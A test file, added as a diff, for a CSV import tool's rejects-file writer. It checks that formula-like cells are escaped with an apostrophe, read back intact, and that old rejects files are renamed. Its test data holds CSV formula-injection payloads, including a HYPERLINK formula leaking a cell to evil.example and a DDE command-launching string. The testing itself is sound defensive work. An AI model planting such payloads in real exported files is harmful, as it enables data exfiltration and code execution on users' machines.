@@ -1,0 +1,106 @@
+/** The file of refused rows: what a spreadsheet makes of it, and what becomes of one of an earlier run. */
+import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, test } from "vitest";
+import { openRejects } from "../cli/rejects-file.ts";
+import { readCsv } from "../src/imports/csv.ts";
+import { rejectsWriter } from "../src/imports/rejects.ts";
+import { csvTable } from "../src/imports/table.ts";
+
+async function* once(text: string) {
+  yield text;
+}
+
+async function read(text: string) {
+  const table = await csvTable(readCsv(once(text)));
+  const rows = [];
+  for await (const batch of table.rows) rows.push(...batch);
+  return { header: table.header, rows };
+}
+
+/** What stands in the rejects file for a cell, and what is read of it again. */
+async function there(cell: string) {
+  const { head, row } = rejectsWriter(["No", "Text"]);
+  const text = head + row({ line: 2, cells: ["1", cell] }, ["=why"]);
+  const written = [];
+  for await (const batch of readCsv(once(text))) written.push(...batch);
+  const { rows } = await read(text);
+  expect(written[1]!.cells[1]).toBe("'=why");
+  return { shown: written[1]!.cells[3], back: rows[0]!.values.get("Text") };
+}
+
+describe("the rejects file", () => {
+  test.each([
+    ['=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["+1 2 3", "'+1 2 3"],
+    ["-0044-03-15", "'-0044-03-15"],
+    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
+    ["\t=1", "'\t=1"],
+    ["'=1", "''=1"],
+    ["''-x", "'''-x"],
+    ["-5", "-5"],
+    ["+3,5", "+3,5"],
+    ["-0044", "-0044"],
+    ["-", "-"],
+    ["'t Hooft", "'t Hooft"],
+    ["a=b", "a=b"],
+    ["", ""],
+  ])("shows a spreadsheet no formula: %j, and it is read as it was", async (cell, shown) => {
+    expect(await there(cell)).toEqual({ shown, back: cell });
+  });
+
+  test("has columns that are named like formulas, too, round after round", async () => {
+    let { header, rows } = await read("No,=1+1\n1,@x\n");
+    for (let round = 0; round < 3; round++) {
+      const { head, row } = rejectsWriter(header);
+      const text = head + row(rows[0]!, ["still bad"]);
+      expect(text).toBe("\uFEFF_line,_reason,No,'=1+1\r\n2,still bad,1,'@x\r\n");
+      ({ header, rows } = await read(text));
+      expect([...rows[0]!.values].slice(2)).toEqual([
+        ["No", "1"],
+        ["=1+1", "@x"],
+      ]);
+    }
+  });
+
+  test("leaves an apostrophe in a list that is no rejects file", async () => {
+    const { rows } = await read("No,Text\n1,'=1\n");
+    expect(rows[0]!.values.get("Text")).toBe("'=1");
+  });
+});
+
+describe("beside a list that was imported before", () => {
+  let directory: string;
+  beforeEach(async () => {
+    directory = await mkdtemp(join(tmpdir(), "svc-rejects-"));
+    await writeFile(join(directory, "works.csv"), "No\n1\n");
+    await writeFile(join(directory, "works.rejects.csv"), "of the first run");
+  });
+  afterEach(() => rm(directory, { recursive: true }));
+  const open = () => openRejects(join(directory, "works.rejects.csv"), join(directory, "works.csv"));
+  const moved = () => join(directory, "works.rejects.1.csv");
+
+  test("no rejects file of that time stays when nothing is refused any more; it is kept under another name", async () => {
+    const rejects = await open();
+    expect(await rejects.keep()).toEqual({ path: null, moved: moved() });
+    expect(await readdir(directory)).toEqual(["works.csv", "works.rejects.1.csv"]);
+    expect(await readFile(moved(), "utf8")).toBe("of the first run");
+    expect(await (await open()).keep()).toEqual({ path: null, moved: null });
+  });
+
+  test("the one of that time makes room for a new one", async () => {
+    const rejects = await open();
+    rejects.begin(rejectsWriter(["No"]));
+    const row = { line: 2, values: new Map(), cells: ["1"] };
+    await rejects.add([{ row, faults: [{ pointer: "", detail: "no good" }] }]);
+    expect(await rejects.keep()).toEqual({ path: join(directory, "works.rejects.csv"), moved: moved() });
+    expect(await readFile(join(directory, "works.rejects.csv"), "utf8")).toContain("2,no good,1");
+  });
+
+  test("an import that does not come to its end leaves it where it is", async () => {
+    await (await open()).drop();
+    expect(await readdir(directory)).toEqual(["works.csv", "works.rejects.csv"]);
+  });
+});
